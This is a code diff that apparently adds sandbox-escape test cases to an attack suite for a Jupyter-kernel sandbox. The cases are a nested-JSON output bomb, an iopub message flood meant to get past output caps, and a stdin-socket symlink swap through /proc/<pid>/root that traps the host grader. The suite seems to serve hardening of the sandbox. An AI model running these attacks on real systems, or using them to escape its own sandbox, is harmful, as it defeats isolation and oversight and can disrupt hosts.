@@ -87,6 +87,48 @@ ATTACKS = {
             pass
         found = len(held) == 4
         """,
+    "nester": """
+        from IPython.display import display
+        chain = []
+        for _ in range(800):
+            chain = [chain]
+        display({"application/json": [chain] * 9600}, raw=True)  # 15 MB, 7.7 million lists
+        found = False
+        """,
+    "spammer": """
+        import time
+        kernel = get_ipython().kernel
+        blob = ('{"x": [' + ", ".join(["[" * 800 + "]" * 800] * 9300) + ']}').encode()
+        start = time.time()
+        while time.time() - start < 60:  # messages of a made-up kind no output cap counts
+            kernel.session.send(kernel.iopub_socket, "x_spam", content=blob, parent=None)
+            time.sleep(0.05)
+        found = False
+        """,
+    "redirect": """
+        import json, os, socket, time
+        from ipykernel.kernelapp import IPKernelApp
+        kernel = get_ipython().kernel
+        info = json.load(open(IPKernelApp.instance().connection_file))
+        stdin = f"{info['ip']}-{info['stdin_port']}"
+        trap = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        trap.bind("/ipc/trap"); trap.listen(5); trap.settimeout(0.3)
+        kernel.stdin_socket.close(linger=0)
+        time.sleep(0.3)
+        if os.path.lexists(stdin):
+            os.unlink(stdin)
+        found = False
+        near = os.getuid() - (1 << 30)  # the host pid of the sandbox is near its uid's offset
+        for pid in range(near, near + 6):
+            os.symlink(f"/proc/{pid}/root/ipc/trap", "/ipc/link")
+            os.rename("/ipc/link", stdin)
+            end = time.time() + 2
+            while time.time() < end and not found:
+                try:
+                    found = bool(trap.accept())  # the grader followed the link to the trap
+                except socket.timeout:
+                    pass
+        """,
     "litter": """
         import os, stat
         os.symlink("/usr", "into-usr")
